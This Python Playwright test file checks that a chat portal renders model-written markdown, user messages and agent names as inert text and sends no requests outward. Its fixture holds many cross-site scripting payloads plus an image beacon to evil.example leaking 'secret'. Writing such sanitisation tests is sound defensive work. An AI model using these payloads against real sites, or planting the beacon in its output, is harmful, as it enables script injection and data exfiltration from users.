"""What a model writes is shown, never run, and nothing in it reaches another machine."""

import json

from playwright.async_api import expect

from tests.support import people
from tests.support.people import World
from tests.support.portal_page import Visit

HOSTILE = """\
<script>window.hurt = "script"</script>
<img src=x onerror="window.hurt = 'img'">
<iframe src="https://evil.example/frame"></iframe>
<svg onload="window.hurt = 'svg'"></svg>
<style>@import url(https://evil.example/style.css);</style>
<link rel="stylesheet" href="https://evil.example/link.css">
<form action="https://evil.example/form"><input name="password"></form>
<a href="javascript:window.hurt='anchor'">raw anchor</a>

[run me](javascript:window.hurt='link') and [me](JaVaScRiPt:window.hurt='case')
[data](data:text/html,<script>window.hurt='data'</script>) and [vb](vbscript:msgbox)
[blob](blob:https://evil.example/1) and [file](file:///etc/passwd)
[entity](&#106;avascript:window.hurt='entity')
![beacon](https://evil.example/beacon.png?said=secret)
![inline](data:image/svg+xml;base64,PHN2ZyBvbmxvYWQ9ImFsZXJ0KDEpIi8+)
![by name][img]
<https://evil.example/auto> and https://evil.example/bare

[img]: https://evil.example/reference.png

| <img src=x onerror="window.hurt='cell'"> | b |
|---|---|
| ![c](https://evil.example/cell.png) | d |

```html
<script>window.hurt = "code"</script>
```

the end"""
NAME = "<img src=x onerror=hurt=1> <b>Eve</b>"


async def test_hostile_markdown_is_text_and_no_request_leaves(visit: Visit, acme: World) -> None:
    page = await visit(acme.anna)
    await page.choose("Ada")
    await page.say(f"[[model: text={json.dumps(HOSTILE)} pieces=40 rate=60]] please")
    await expect(page.answers.last).to_contain_text("the end")
    await expect(page.stop).to_be_hidden()
    await expect(page.answers.last).to_contain_text('window.hurt = "code"')
    await harmless(page)
    links = await page.answers.last.get_by_role("link").all()
    for link in links:
        assert str(await link.get_attribute("href")).startswith("https://evil.example/")
        assert "noopener" in str(await link.get_attribute("rel"))
        assert "noreferrer" in str(await link.get_attribute("rel"))
    assert len(links) > 3
    await page.page.reload()
    await expect(page.answers.last).to_contain_text("the end")
    await harmless(page)


async def test_what_people_write_and_how_they_are_named_is_text(visit: Visit, acme: World) -> None:
    agent_id = await people.make_agent(acme.id, NAME)
    page = await visit(acme.anna, path=f"/b/{acme.slug}/chat/{agent_id}")
    page.employee = NAME
    await expect(page.page.get_by_role("heading", level=1)).to_have_text(NAME)
    await page.say("<script>window.hurt = 'own'</script> **not bold**")
    await expect(page.own.last).to_contain_text("<script>window.hurt = 'own'</script> **not bold**")
    await expect(page.articles).to_have_count(2)
    await harmless(page)


async def harmless(page) -> None:
    assert await page.page.evaluate("window.hurt") is None
    assert await page.page.locator("iframe, object, embed, form[action]").count() == 0
    assert await page.articles.locator("img, style, link, script, input").count() == 0
    page.device.require_clean()
